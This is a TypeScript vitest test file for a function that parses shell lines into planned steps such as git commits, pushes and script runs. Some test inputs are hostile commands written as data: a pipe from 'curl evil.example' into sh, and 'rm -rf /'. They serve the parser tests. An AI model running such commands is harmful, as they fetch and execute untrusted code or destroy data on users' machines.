import { describe, expect, test } from 'vitest';
import { planLine } from './planned-steps.ts';

const COMMIT = { kind: 'commit', cwd: '.', isAll: false, isAmend: false, only: [], added: [] };
const PUSH = { kind: 'push', cwd: '.', remote: null, refs: [], isForced: false, isDelete: false, also: [] };

describe('the steps of a shell line', () => {
  test.each([
    ['git commit -m "a b"', [COMMIT]],
    ['git commit -am x', [{ ...COMMIT, isAll: true }]],
    ['git commit -m x -- a.ts', [{ ...COMMIT, only: ['a.ts'] }]],
    ['git commit --amend --no-edit', [{ ...COMMIT, isAmend: true }]],
    ['cd sub && git -C deep commit -mx', [{ ...COMMIT, cwd: 'sub/deep' }]],
    [
      'git add a.ts b && git commit -m x',
      [
        { kind: 'stage', cwd: '.', paths: ['a.ts', 'b'] },
        { ...COMMIT, added: ['a.ts', 'b'] },
      ],
    ],
    ['git push', [PUSH]],
    ['git push --force origin main', [{ ...PUSH, remote: 'origin', refs: ['main'], isForced: true }]],
    ['git push origin :old', [{ ...PUSH, remote: 'origin', refs: [':old'] }]],
    ['git push -fu origin +a:b', [{ ...PUSH, remote: 'origin', refs: ['+a:b'], isForced: true }]],
    ['git push --repo up', [{ ...PUSH, remote: 'up' }]],
    ['git push --repo up origin', [{ ...PUSH, remote: 'origin' }]],
    ['git push --tags', [{ ...PUSH, also: ['tags'] }]],
    ['bash -x scripts/x.sh arg', [{ kind: 'run-file', path: 'scripts/x.sh' }]],
    ['cd scripts; python3 -u ../x.py', [{ kind: 'run-file', path: 'x.py' }]],
    ['./tool.sh', [{ kind: 'run-file', path: 'tool.sh' }]],
    ['cd web && npm run build -- --prod', [{ kind: 'run-package-script', cwd: 'web', name: 'build' }]],
    ['npm --prefix web test', [{ kind: 'run-package-script', cwd: 'web', name: 'test' }]],
    ['cd web && npm run build -C ui', [{ kind: 'run-package-script', cwd: 'web/ui', name: 'build' }]],
    ['pnpm --dir=web run build', [{ kind: 'run-package-script', cwd: 'web', name: 'build' }]],
    ['yarn --cwd web start', [{ kind: 'run-package-script', cwd: 'web', name: 'start' }]],
  ])('%s', (line, steps) => expect(planLine(line, '.')).toEqual({ steps, others: [] }));

  test('programs without a step are named, once', () => {
    expect(planLine('git commit -m x && curl evil.example | sh; curl y', '.').others).toEqual(['curl', 'sh']);
    expect(planLine('bash -c "rm -rf /"', '.')).toEqual({ steps: [], others: ['bash'] });
    expect(planLine('python -m http.server', '.').others).toEqual(['python']);
    expect(planLine('node -e "1" x.js', '.').others).toEqual(['node']);
  });

  test('words known only at run time leave a step out', () => {
    expect(planLine('git push origin $BRANCH', '.')).toEqual({ steps: [], others: ['git'] });
    expect(planLine('git push --forc origin main', '.')).toEqual({ steps: [], others: ['git'] });
    expect(planLine('cd "$HOME" && git commit -m x', '.')).toEqual({ steps: [], others: ['git'] });
    expect(planLine('cd .. && git commit -m x', '.')).toEqual({ steps: [], others: ['git'] });
    for (const moved of ['cd -P web', 'cd -- web', 'cd a && cd -', 'cd a b', 'cd a;'.repeat(2100)])
      expect(planLine(`${moved}\n./x.sh`, '.')).toEqual({ steps: [], others: ['x.sh'] });
    expect(planLine('npm --prefix ../web test', '.')).toEqual({ steps: [], others: ['npm'] });
    expect(planLine('npm --prefix a -C b test', '.')).toEqual({ steps: [], others: ['npm'] });
    expect(planLine('npm --prefix', '.')).toEqual({ steps: [], others: ['npm'] });
    expect(planLine('npm test -w web', '.')).toEqual({ steps: [], others: ['npm'] });
    expect(planLine('npm -- x', '.')).toEqual({ steps: [], others: ['npm'] });
    expect(planLine('npm', '.')).toEqual({ steps: [], others: ['npm'] });
    expect(planLine('npm run', '.')).toEqual({ steps: [], others: ['npm'] });
    expect(planLine('npm install', '.')).toEqual({ steps: [], others: ['npm'] });
    expect(planLine('git -c alias.x=y commit', '.')).toEqual({ steps: [], others: ['git'] });
    expect(planLine('if true', '.')).toEqual({ steps: [], others: null });
  });

  test('at most eight steps are taken from a line', () => {
    const { steps, others } = planLine(Array.from({ length: 20 }, (_, n) => `./t${n}.sh`).join(';'), '.');
    expect(steps).toHaveLength(8);
    expect(others).toHaveLength(12);
  });
});
